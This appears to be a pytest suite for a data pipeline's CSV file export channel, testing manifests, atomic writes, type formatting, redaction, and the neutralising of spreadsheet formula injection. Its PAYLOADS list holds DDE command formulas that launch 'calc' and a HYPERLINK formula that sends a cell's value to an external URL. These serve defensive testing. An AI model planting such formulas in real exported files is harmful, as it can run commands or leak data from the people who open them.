"""The file channel: whole files, inert cells, a manifest that is true."""

import csv
import hashlib
import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import fsspec
import pyarrow as pa
import pytest

from dagster_project.channels.base import Batch, FatalError
from dagster_project.channels.file import FileChannel, FileSettings
from dagster_project.channels.normalise import json_texts, public_reason, spreadsheet_table

FORMULA_STARTS = "=+-@\t\r\n＝＋－＠﹦﹢﹣﹫−"


def batch(**columns: object) -> Batch:
    table = pa.table(columns)
    rows = table.num_rows
    table = table.add_column(0, "profile_id", pa.array([f"p_{i}" for i in range(rows)]))
    table = table.add_column(1, "operation", pa.array(["add"] * rows))
    return Batch("c" * 32, "churned", "run 1/x", datetime(2026, 3, 1, tzinfo=UTC), 1, 1, table)


def read(folder: Path) -> list[dict[str, str]]:
    (path,) = folder.glob("churned/*.csv")
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def test_the_manifest_describes_the_file(tmp_path: Path) -> None:
    FileChannel(FileSettings(), tmp_path).apply(batch(email=["a@example.org", None]))
    (manifest_path,) = tmp_path.glob("churned/*.manifest.json")
    manifest = json.loads(manifest_path.read_text())
    content = (tmp_path / "churned" / manifest["file"]).read_bytes()

    assert manifest["sha256"] == hashlib.sha256(content).hexdigest()
    assert (manifest["bytes"], manifest["rows"]) == (len(content), 2)
    assert manifest["operations"] == {"add": 2}
    assert manifest["columns"] == ["_operation", "profile_id", "email"]
    assert manifest["file"] == f"run_1_x.{'c' * 12}.csv"
    assert sorted(p.suffix for p in (tmp_path / "churned").iterdir()) == [".csv", ".json"]


def test_an_interrupted_write_leaves_no_file_that_could_be_taken(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr("pyarrow.csv.write_csv", broken)
    with pytest.raises(KeyboardInterrupt):
        FileChannel(FileSettings(), tmp_path).apply(batch(email=["a@example.org"]))
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_files_go_to_any_file_system() -> None:
    FileChannel(FileSettings(url="memory://out/here")).apply(batch(email=["a@example.org"]))
    names = fsspec.filesystem("memory").find("/out/here")
    assert len(names) == 2


@pytest.mark.parametrize("url", ["nosuch://x/y", "/proc/nowhere/x"])
def test_a_folder_that_cannot_be_written_is_one_clear_line(url: str) -> None:
    channel = FileChannel(FileSettings(url=url))
    assert channel.check().is_ready is False
    with pytest.raises(Exception, match=r"[Ww]rit") as caught:
        channel.apply(batch(email=["a@example.org"]))
    assert "example.org" not in str(caught.value)


def test_a_file_where_the_folder_should_be_is_fatal(tmp_path: Path) -> None:
    (tmp_path / "churned").write_text("in the way")
    with pytest.raises(FatalError, match="check PERENNIAL_FILE_URL"):
        FileChannel(FileSettings(), tmp_path).apply(batch(email=["a@example.org"]))


PAYLOADS = [
    *(f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS),
    *(f"{blank}=1+1" for blank in (" ", "\u00a0", "\u200b", "\ufeff", "  \t", "\x00", "\u2003")),
    '=HYPERLINK("https://example.org?x="&A1,"here")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "+1-1",
    "--1",
    "-1.5e3",
    "=",
    "-",
]


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_starts_a_formula(tmp_path: Path, payload: str) -> None:
    FileChannel(FileSettings(), tmp_path).apply(batch(city=[payload], note=["safe"]))
    row = read(tmp_path)[0]
    assert row["city"].startswith("'")
    assert row["city"].replace("'", "") == payload.replace("'", "")
    assert row["note"] == "safe"


@pytest.mark.parametrize("separator", [";", "\t", "\n", "\r\n", "; ", ';"'])
def test_no_formula_hides_behind_a_separator_of_another_reader(
    tmp_path: Path, separator: str
) -> None:
    FileChannel(FileSettings(), tmp_path).apply(batch(city=[f"Cluj{separator}=1+1"]))
    assert read(tmp_path)[0]["city"] == f"Cluj{separator}'=1+1"


def test_values_that_only_look_like_formulas_stay_what_they_are(tmp_path: Path) -> None:
    FileChannel(FileSettings(), tmp_path).apply(
        batch(
            balance=pa.array([Decimal("-3.50")]),
            score=["-12.5"],
            phone=["+40722123456"],
            home_phone=["+40 722=1"],
            note=["+40722123456"],
            city=["Cluj-Napoca = home; see -you"],
            email=["a+b@example.org"],
        )
    )
    row = read(tmp_path)[0]
    assert (row["balance"], row["score"]) == ("-3.50", "-12.5")
    assert row["phone"] == "+40722123456"
    assert row["home_phone"] == "'+40 722=1"
    assert row["note"] == "'+40722123456"
    assert row["city"] == "Cluj-Napoca = home; see -you"
    assert row["email"] == "a+b@example.org"


def test_a_column_name_is_made_inert_too(tmp_path: Path) -> None:
    FileChannel(FileSettings(), tmp_path).apply(batch(**{"=1+1": ["x"]}))
    assert list(read(tmp_path)[0]) == ["_operation", "profile_id", "'=1+1"]


def test_quotes_line_ends_and_nothing_survive_the_way(tmp_path: Path) -> None:
    odd = ['he said "hi", twice', "two\nlines", "", None, "ăîșțâ 정 😀"]
    FileChannel(FileSettings(), tmp_path).apply(batch(note=pa.array(odd)))
    assert [row["note"] for row in read(tmp_path)] == [value or "" for value in odd]
    (path,) = tmp_path.glob("churned/*.csv")
    lines = path.read_text(encoding="utf-8").splitlines()
    assert '"add","p_2",""' in lines  # an empty text
    assert '"add","p_3",' in lines  # no value


def test_every_type_has_one_text() -> None:
    table = pa.table(
        {
            "money": pa.array([Decimal("10.0000")], pa.decimal128(18, 4)),
            "day": [date(2026, 3, 1)],
            "moment": pa.array([datetime(2026, 3, 1, 12, tzinfo=UTC)], pa.timestamp("us", "UTC")),
            "local": pa.array([datetime(2026, 3, 1, 12)], pa.timestamp("us")),  # noqa: DTZ001
            "flag": [True],
            "count": [9_007_199_254_740_993],
            "ratio": [0.1],
            "broken": [float("nan")],
            "nothing": pa.array([None], pa.string()),
            "prices": pa.array([[Decimal("1.10"), None]], pa.list_(pa.decimal128(9, 2))),
            "nested": [{"at": date(2026, 1, 2), "none": None}],
            "bytes": [b"\x00\xff"],
        }
    )
    assert json.loads(json_texts(table, table.column_names)[0]) == {
        "money": "10.0000",
        "day": "2026-03-01",
        "moment": "2026-03-01T12:00:00.000000Z",
        "local": "2026-03-01T12:00:00.000000",
        "flag": True,
        "count": 9_007_199_254_740_993,
        "ratio": 0.1,
        "broken": None,
        "nothing": None,
        "prices": ["1.10", None],
        "nested": {"at": "2026-01-02", "none": None},
        "bytes": "AP8=",
    }
    cells = spreadsheet_table(table, ["money", "moment", "flag", "prices", "nothing"]).to_pylist()
    assert cells == [
        {
            "money": "10.0000",
            "moment": "2026-03-01T12:00:00.000000Z",
            "flag": "true",
            "prices": '["1.10",null]',
            "nothing": None,
        }
    ]


def test_the_order_of_columns_changes_no_text() -> None:
    table = pa.table({"b": [1], "a": ["x"]})
    assert json_texts(table, ["b", "a"]) == json_texts(table, ["a", "b"]) == ['{"a":"x","b":1}']


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("invalid_email", "invalid_email"),
        ("mailbox a@b.ro is full", "mailbox […] is full"),
        ("call 0722 123 456 now", "call […] now"),
        ("", "no reason given"),
        ("x" * 500, "x" * 120),
    ],
)
def test_a_reason_is_safe_to_show(said: str, shown: str) -> None:
    assert public_reason(said) == shown
